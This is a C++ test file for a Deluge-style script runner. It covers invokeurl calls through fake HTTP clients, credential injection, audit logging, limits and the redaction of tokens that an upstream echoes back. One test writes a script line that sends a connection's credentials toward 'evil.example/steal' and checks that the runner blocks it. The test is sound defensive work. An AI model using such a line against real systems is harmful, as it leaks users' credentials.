// The runner against fakes: invokeurl with and without a connection, the run's record of calls,
// info and mail, compile caching, limits, and the errors a script gets.
#include "functions/platform_runner.h"

#include "functions/program_cache.h"
#include "runner_test_fixture.h"
#include "store/counting_store.h"

namespace relish::functions {
namespace {

using outbound::FakeHttpClient;

std::string HeaderOf(const outbound::Request& r, const std::string& name) {
  for (const auto& [k, v] : r.headers) {
    if (k == name) return v;
  }
  return "<none>";
}

TEST_F(RunnerTest, InfoLinesStatementsAndReturnValue) {
  RunResult r = Run("info \"a\";\nx = {\"k\": [1, 2]};\ninfo x;\nreturn x.get(\"k\");\n");
  EXPECT_TRUE(r.ok) << r.error_message;
  EXPECT_EQ(r.info, (std::vector<std::string>{"a", "{\"k\":[1,2]}"}));
  EXPECT_EQ(r.return_json, "[1,2]");
  EXPECT_EQ(r.statements, 4);
  EXPECT_EQ(r.started_at, 1'700'000'000'000);
  EXPECT_EQ(r.ended_at, 1'700'000'000'000);
  EXPECT_TRUE(r.calls.empty());
}

TEST_F(RunnerTest, ArgumentsAreJson) {
  RunResult r = Run("info contact.get(\"Contacts.ID\");", {{"contact", R"({"Contacts.ID":"42"})"}});
  EXPECT_TRUE(r.ok) << r.error_message;
  EXPECT_EQ(r.info, std::vector<std::string>{"42"});
}

TEST_F(RunnerTest, CompileErrorsAreResultsWithTheLine) {
  RunResult r = Run("info \"x\";\na = ;\n");
  EXPECT_FALSE(r.ok);
  EXPECT_EQ(r.error_line, 2);
  EXPECT_EQ(r.error_message, "Expected a value but found ';'");
  EXPECT_EQ(r.return_json, "null");
  EXPECT_TRUE(r.info.empty());
}

TEST_F(RunnerTest, RuntimeErrorsKeepWhatRanBefore) {
  RunResult r = Run("info \"before\";\nl = {1};\ninfo l.get(3);\n");
  EXPECT_FALSE(r.ok);
  EXPECT_EQ(r.error_line, 3);
  EXPECT_EQ(r.error_message, "Given index 3 is greater than the list size");
  EXPECT_EQ(r.info, std::vector<std::string>{"before"});
}

TEST_F(RunnerTest, RequestsThatCannotRunAreErrors) {
  RunRequest bad_env = Request("info 1;");
  bad_env.environment = "staging";
  EXPECT_EQ(runner_->Run(bad_env).error().message(),
            "environment must be sandbox or production, got 'staging'");
  RunRequest bad_arg = Request("void f(Int n) { info n; }");
  bad_arg.args = {{"n", "{oops"}};
  EXPECT_EQ(runner_->Run(bad_arg).error().code(), ErrorCode::kInvalidArgument);
  RunRequest nobody = Request("info 1;");
  nobody.user_id = "usr_nobody";
  EXPECT_EQ(runner_->Run(nobody).error().message(), "no user usr_nobody");
}

TEST_F(RunnerTest, CompiledProgramsAreCachedBySourceAndArguments) {
  for (int i = 0; i < 3; ++i) Run("info 1;");
  EXPECT_EQ(runner_->cache().compiles(), 1u);
  Run("info contact;", {{"contact", "1"}});
  Run("info contact;", {{"contact", "2"}});
  EXPECT_EQ(runner_->cache().compiles(), 2u);
  Run("info 2;");
  EXPECT_EQ(runner_->cache().compiles(), 3u);
  EXPECT_EQ(runner_->cache().size(), 3u);
}

TEST(ProgramCacheTest, DropsTheLeastRecentlyUsed) {
  ProgramCache cache(2);
  auto a = cache.Get("info 1;", {});
  cache.Get("info 2;", {});
  EXPECT_EQ(cache.Get("info 1;", {}), a);  // a is now the most recent
  cache.Get("info 3;", {});                // evicts "info 2;"
  EXPECT_EQ(cache.size(), 2u);
  EXPECT_EQ(cache.compiles(), 3u);
  EXPECT_EQ(cache.Get("info 1;", {}), a);
  cache.Get("info 2;", {});
  EXPECT_EQ(cache.compiles(), 4u);
}

TEST_F(RunnerTest, LoginUserAndTimeZone) {
  RunResult r = Run("info zoho.loginuser;\ninfo zoho.loginuserid;\ninfo zoho.adminuser;");
  EXPECT_TRUE(r.ok) << r.error_message;
  EXPECT_EQ(r.info,
            (std::vector<std::string>{"dev@example.com", "dev@example.com", "admin@example.com"}));
}

// A run learns its user and zoho.adminuser from one read of the organization's members; before,
// it read its user, then every user of the installation and each administrator's memberships.
// A user from outside the organization is still read by id.
TEST_F(RunnerTest, ARunReadsItsUserAndTheAdministratorInOneTransaction) {
  store::testing::CountingStore counting(*store_);
  identity::Identity identity(counting, clock_, random_,
                              identity::IdentityOptions{.pwhash_opslimit = crypto_pwhash_OPSLIMIT_MIN,
                                                        .pwhash_memlimit = crypto_pwhash_MEMLIMIT_MIN});
  PlatformRunner runner(PlatformServices{.sandbox_http = &http_,
                                         .production_http = &http_,
                                         .identity = &identity,
                                         .clock = &clock_},
                        RunnerOptions{.time_zone = "UTC"});
  auto outsider = identity_->CreateUser("aaron@example.com", "Aaron Outside", "password-for-tests",
                                        identity::Role::kAdmin);
  ASSERT_TRUE(outsider.ok());
  counting.Reset();
  auto r = runner.Run(Request("info zoho.loginuser;\ninfo zoho.adminuser;"));
  ASSERT_TRUE(r.ok()) << r.error().message();
  EXPECT_EQ(r->info, (std::vector<std::string>{"dev@example.com", "admin@example.com"}));
  EXPECT_EQ(counting.reads(), 1);
  EXPECT_EQ(counting.writes(), 0);
  RunRequest outside = Request("info zoho.loginuser;\ninfo zoho.adminuser;");
  outside.user_id = outsider->id;
  r = runner.Run(outside);
  ASSERT_TRUE(r.ok()) << r.error().message();
  EXPECT_EQ(r->info, (std::vector<std::string>{"aaron@example.com", "admin@example.com"}));
  outside.user_id = "usr_nonesuch";
  EXPECT_EQ(runner.Run(outside).error().message(), "no user usr_nonesuch");
}

TEST_F(RunnerTest, InvokeUrlWithoutConnectionUsesTheEnvironmentsClient) {
  api_ = [](const outbound::Request&) { return FakeHttpClient::Json(200, R"({"ok":true})"); };
  RunResult r =
      Run("m = Map();\nm.put(\"q\", \"a b\");\n"
          "r = invokeurl [ url: \"https://api.example.com/v1/items?api_key=s3cret\" type: GET "
          "parameters: m headers: {\"X-Trace\": \"1\"} ];\ninfo r;");
  EXPECT_TRUE(r.ok) << r.error_message;
  EXPECT_EQ(r.info, std::vector<std::string>{"{\"ok\":true}"});
  auto sent = ApiRequests();
  ASSERT_EQ(sent.size(), 1u);
  EXPECT_EQ(sent[0].method, "GET");
  EXPECT_EQ(sent[0].url, "https://api.example.com/v1/items?api_key=s3cret&q=a+b");
  EXPECT_EQ(HeaderOf(sent[0], "X-Trace"), "1");
  EXPECT_EQ(sent[0].timeout, std::chrono::milliseconds(40'000));
  ASSERT_EQ(r.calls.size(), 1u);
  const OutboundCall& c = r.calls[0];
  EXPECT_EQ(c.method, "GET");
  EXPECT_EQ(c.url, "https://api.example.com/v1/items?api_key=***&q=a+b");
  EXPECT_EQ(c.connection, "");
  EXPECT_EQ(c.task, "");
  EXPECT_EQ(c.status, 200);
  EXPECT_EQ(c.error, "");
}

TEST_F(RunnerTest, EachEnvironmentHasItsOwnClient) {
  FakeHttpClient production([](const outbound::Request&) {
    return FakeHttpClient::Json(200, R"({"env":"production"})");
  });
  http_.SetHandler(
      [](const outbound::Request&) { return FakeHttpClient::Json(200, R"({"env":"sandbox"})"); });
  PlatformRunner runner({.sandbox_http = &http_, .production_http = &production, .clock = &clock_},
                        {});
  RunRequest req = Request("info invokeurl [ url: \"https://x.example\" ];");
  req.user_id = "";
  EXPECT_EQ(runner.Run(req)->info, std::vector<std::string>{"{\"env\":\"sandbox\"}"});
  req.environment = "production";
  EXPECT_EQ(runner.Run(req)->info, std::vector<std::string>{"{\"env\":\"production\"}"});
}

TEST_F(RunnerTest, TransportErrorsAreRuntimeErrorsAndListedCalls) {
  api_ = [](const outbound::Request&) -> Result<outbound::Response> {
    return Unavailable("connection refused");
  };
  RunResult r =
      Run("info \"start\";\nr = invokeurl [ url: \"https://down.example/x?token=t0ken\" ];");
  EXPECT_FALSE(r.ok);
  EXPECT_EQ(r.error_line, 2);
  EXPECT_EQ(r.error_message, "invokeurl to https://down.example/x failed: connection refused");
  ASSERT_EQ(r.calls.size(), 1u);
  EXPECT_EQ(r.calls[0].url, "https://down.example/x?token=***");
  EXPECT_EQ(r.calls[0].status, 0);
  EXPECT_EQ(r.calls[0].error, "connection refused");
}

TEST_F(RunnerTest, TimeoutsAreTheInvokeUrlLimit) {
  api_ = [](const outbound::Request&) -> Result<outbound::Response> {
    return DeadlineExceeded("timed out");
  };
  RunRequest req = Request(
      "try { r = invokeurl [ url: \"https://slow.example/\" ]; } "
      "catch (e) { info \"caught\"; }");
  req.limits.invokeurl_timeout = std::chrono::milliseconds(500);
  auto r = runner_->Run(req);
  ASSERT_TRUE(r.ok());
  EXPECT_FALSE(r->ok);
  EXPECT_TRUE(r->info.empty());  // limits cannot be caught
  EXPECT_NE(r->error_message.find("500 ms"), std::string::npos) << r->error_message;
  EXPECT_EQ(http_.requests().back().timeout, std::chrono::milliseconds(500));
}

TEST_F(RunnerTest, RequestLimitsAreLoweredToTheRunnersMost) {
  PlatformRunner strict({.sandbox_http = &http_, .production_http = &http_, .clock = &clock_},
                        {.max_limits = {.max_statements = 10}});
  RunRequest req = Request("n = 0;\nfor each i in {1,2,3,4,5,6,7,8,9,10,11,12} { n = n + 1; }");
  req.user_id = "";
  req.limits.max_statements = 1'000'000;
  auto r = strict.Run(req);
  ASSERT_TRUE(r.ok());
  EXPECT_FALSE(r->ok);
  EXPECT_NE(r->error_message.find("(limit: statements per run)"), std::string::npos)
      << r->error_message;
}

TEST_F(RunnerTest, InvokeUrlThroughAConnectionInjectsCredentialsAndAudits) {
  Connect("zoho_books", "books", "books-token-1");
  api_ = [](const outbound::Request&) {
    return FakeHttpClient::Json(200, R"({"code":0,"contacts":[]})");
  };
  RunResult r =
      Run("r = invokeurl [ url: \"https://books.zoho.com/api/v3/contacts\" type: GET "
          "parameters: {\"search_text\": \"a@b.co\"} connection: \"books\" ];\ninfo r;");
  EXPECT_TRUE(r.ok) << r.error_message;
  EXPECT_EQ(r.info, std::vector<std::string>{"{\"code\":0,\"contacts\":[]}"});
  auto sent = ApiRequests();
  ASSERT_EQ(sent.size(), 1u);
  EXPECT_EQ(sent[0].url, "https://books.zoho.com/api/v3/contacts?search_text=a%40b.co");
  EXPECT_EQ(HeaderOf(sent[0], "Authorization"), "Zoho-oauthtoken books-token-1");
  ASSERT_EQ(r.calls.size(), 1u);
  EXPECT_EQ(r.calls[0].method, "GET");
  EXPECT_EQ(r.calls[0].url, "https://books.zoho.com/api/v3/contacts?search_text=a%40b.co");
  EXPECT_EQ(r.calls[0].connection, "books");
  EXPECT_EQ(r.calls[0].status, 200);
  connections_->FlushAudit();
  auto audit = connections_->Audit(org_id_, "run_test_1", 10);
  ASSERT_TRUE(audit.ok());
  ASSERT_EQ(audit->size(), 1u);
  EXPECT_EQ((*audit)[0].origin, "function");
  EXPECT_EQ((*audit)[0].user_id, user_id_);
  EXPECT_EQ((*audit)[0].link_name, "books");
  EXPECT_EQ((*audit)[0].status, 200);
  // No secret in what the run shows.
  for (const auto& c : r.calls) EXPECT_EQ(c.url.find("books-token-1"), std::string::npos);
}

TEST_F(RunnerTest, AToppingsLinkNameResolvesWithItsNamespace) {
  Connect("zoho_books", "ns__books", "books-token-2");
  api_ = [](const outbound::Request&) { return FakeHttpClient::Json(200, "{}"); };
  RunRequest req = Request(
      "r = invokeurl [ url: \"https://books.zoho.com/api/v3/x\" "
      "connection: \"books\" ];");
  req.topping = "ns";
  auto r = runner_->Run(req);
  ASSERT_TRUE(r.ok());
  EXPECT_TRUE(r->ok) << r->error_message;
  EXPECT_EQ(HeaderOf(ApiRequests().at(0), "Authorization"), "Zoho-oauthtoken books-token-2");
}

TEST_F(RunnerTest, ConnectionErrorsSayWhatToDo) {
  RunResult missing =
      Run("r = invokeurl [ url: \"https://books.zoho.com/api/v3/x\" "
          "connection: \"nope\" ];");
  EXPECT_FALSE(missing.ok);
  EXPECT_EQ(missing.error_message,
            "invokeurl to https://books.zoho.com/api/v3/x failed: no connection 'nope' in the "
            "sandbox environment");
  ASSERT_EQ(missing.calls.size(), 1u);
  EXPECT_EQ(missing.calls[0].connection, "nope");
  EXPECT_EQ(missing.calls[0].error, "no connection 'nope' in the sandbox environment");

  Connect("zoho_books", "books", "books-token-1");
  RunResult elsewhere =
      Run("r = invokeurl [ url: \"https://evil.example/steal\" "
          "connection: \"books\" ];");
  EXPECT_FALSE(elsewhere.ok);
  EXPECT_EQ(elsewhere.error_message,
            "invokeurl to https://evil.example/steal failed: connection 'books' (service "
            "zoho_books) may not send credentials to evil.example; allowed: www.zohoapis.com, "
            "books.zoho.com");

  ASSERT_TRUE(connections_->Revoke(org_id_, "sandbox", "books", user_id_).ok());
  RunResult revoked =
      Run("r = invokeurl [ url: \"https://books.zoho.com/api/v3/x\" "
          "connection: \"books\" ];");
  EXPECT_FALSE(revoked.ok);
  EXPECT_EQ(revoked.error_message,
            "invokeurl to https://books.zoho.com/api/v3/x failed: connection 'books' was revoked");
}

TEST_F(RunnerTest, AConnectionWhoseRefreshIsRefusedNeedsAuthorizingAgain) {
  Connect("zoho_books", "books", "books-token-1");
  token_error_ = "invalid_grant";
  clock_.Advance(std::chrono::hours(2));  // the access token has expired
  RunResult r =
      Run("r = invokeurl [ url: \"https://books.zoho.com/api/v3/x\" "
          "connection: \"books\" ];");
  EXPECT_FALSE(r.ok);
  EXPECT_TRUE(r.error_message.starts_with(
      "invokeurl to https://books.zoho.com/api/v3/x failed: connection 'books' needs to be "
      "authorized again: "))
      << r.error_message;
  EXPECT_TRUE(ApiRequests().empty());  // nothing went out without credentials
}

TEST_F(RunnerTest, WithoutPlatformServicesConnectionsAndTasksFailClearly) {
  PlatformRunner bare({.sandbox_http = &http_, .production_http = &http_, .clock = &clock_},
                      {.unavailable = "relish run found no data directory at ./nowhere"});
  RunRequest req = Request("r = invokeurl [ url: \"https://x.example\" connection: \"books\" ];");
  req.user_id = "";
  EXPECT_EQ(bare.Run(req)->error_message,
            "invokeurl to https://x.example failed: connection 'books' cannot be used: relish "
            "run found no data directory at ./nowhere");
  req.source = "r = zoho.crm.getRecordById(\"Leads\", 1);";
  EXPECT_EQ(bare.Run(req)->error_message,
            "zoho.crm.getRecordById without a connection reads this installation's CRM, which is "
            "not available: relish run found no data directory at ./nowhere");
}

TEST_F(RunnerTest, SendMailIsRecordedNotDelivered) {
  RunResult r =
      Run("sendmail [ from: zoho.adminuserid to: \"a@example.com, b@example.com\" "
          "subject: \"Hello\" message: \"Hi\" ];");
  EXPECT_TRUE(r.ok) << r.error_message;
  EXPECT_EQ(r.mails, std::vector<std::string>{"to a@example.com, b@example.com: Hello"});
  EXPECT_TRUE(ApiRequests().empty());
}

}  // namespace
}  // namespace relish::functions

namespace relish::functions {
namespace {

// Issue 13 item 19: a bearer token the upstream echoes never reaches the script, whichever way
// it comes back (body, header, a detailed response), and what the run returns and lists holds
// the mask. Before, the script printed the token and the run's info and return value held it.
TEST_F(RunnerTest, AScriptNeverSeesTheTokenAnUpstreamEchoes) {
  auto c = connections_->Create({.org_id = org_id_, .display_name = "cf", .link_name = "cf",
                                 .service_id = "cloudflare", .created_by = user_id_});
  ASSERT_TRUE(c.ok()) << c.error().message();
  ASSERT_TRUE(connections_->SetCredentials(org_id_, "sandbox", "cf", user_id_,
                                           {{"token", "cf-token-8d2e41"}}).ok());
  api_ = [](const outbound::Request& r) {
    std::string auth;
    for (const auto& [k, v] : r.headers) {
      if (k == "Authorization") auth = v;
    }
    auto answer = FakeHttpClient::Json(200, R"({"seen":")" + auth + R"("})");
    answer.headers.emplace_back("x-seen", auth);
    return answer;
  };
  RunResult r = Run(
      "r = invokeurl [ url: \"https://api.cloudflare.com/client/v4/zones\" type: GET "
      "connection: \"cf\" detailed: true ];\n"
      "info r.get(\"responseText\");\ninfo r.get(\"responseHeader\").get(\"x-seen\");\n"
      "return r.get(\"responseText\").get(\"seen\");");
  EXPECT_TRUE(r.ok) << r.error_message;
  EXPECT_EQ(HeaderOf(ApiRequests().back(), "Authorization"), "Bearer cf-token-8d2e41");
  EXPECT_EQ(r.info, (std::vector<std::string>{R"({"seen":"Bearer [REDACTED]"})",
                                              "Bearer [REDACTED]"}));
  EXPECT_EQ(r.return_json, R"("Bearer [REDACTED]")");
}

// invokeurl's own errors about an answer (an unknown charset, issue 17) quote what the upstream
// sent: an upstream that echoes the injected token there does not get it into the error.
TEST_F(RunnerTest, AnUnknownCharsetErrorNeverShowsTheInjectedToken) {
  ASSERT_TRUE(connections_->Create({.org_id = org_id_, .display_name = "cf", .link_name = "cf",
                                    .service_id = "cloudflare", .created_by = user_id_}).ok());
  ASSERT_TRUE(connections_->SetCredentials(org_id_, "sandbox", "cf", user_id_,
                                           {{"token", "cf-token-5b7c19"}}).ok());
  api_ = [](const outbound::Request& r) {
    std::string token;
    for (const auto& [k, v] : r.headers) {
      if (k == "Authorization") token = v.substr(v.find(' ') + 1);
    }
    outbound::Response answer;
    answer.status = 200;
    answer.headers = {{"content-type", "text/plain; charset=" + token}};
    answer.body = "x";
    return answer;
  };
  RunResult r = Run(
      "r = invokeurl [ url: \"https://api.cloudflare.com/client/v4/zones\" connection: \"cf\" ];");
  EXPECT_FALSE(r.ok);
  EXPECT_EQ(r.error_message.find("cf-token-5b7c19"), std::string::npos) << r.error_message;
  EXPECT_NE(r.error_message.find("which is not known"), std::string::npos) << r.error_message;
}

// What a run returns is scrubbed of its own organization's secrets whatever their way in (here
// an argument), and only of its own: another organization's secret that a script prints comes
// out as it went in, as masking it would tell the script's author that it is one.
TEST_F(RunnerTest, ARunMasksItsOrganizationsSecretsAndNoOneElses) {
  ASSERT_TRUE(connections_->Create({.org_id = org_id_, .display_name = "cf", .link_name = "cf",
                                    .service_id = "cloudflare", .created_by = user_id_}).ok());
  ASSERT_TRUE(connections_->SetCredentials(org_id_, "sandbox", "cf", user_id_,
                                           {{"token", "own-token-51c9aa"}}).ok());
  auto other = identity_->CreateOrg("Other Inc");
  ASSERT_TRUE(other.ok());
  ASSERT_TRUE(connections_->Create({.org_id = other->id, .display_name = "cf", .link_name = "cf",
                                    .service_id = "cloudflare", .created_by = user_id_}).ok());
  ASSERT_TRUE(connections_->SetCredentials(other->id, "sandbox", "cf", user_id_,
                                           {{"token", "other-token-7e03bd"}}).ok());
  RunResult r = Run("info found;\ninfo \"other-token-7e03bd\";\nreturn found;",
                    {{"found", "\"own-token-51c9aa\""}});
  EXPECT_TRUE(r.ok) << r.error_message;
  EXPECT_EQ(r.info, (std::vector<std::string>{"[REDACTED]", "other-token-7e03bd"}));
  EXPECT_EQ(r.return_json, R"("[REDACTED]")");
}

}  // namespace
}  // namespace relish::functions
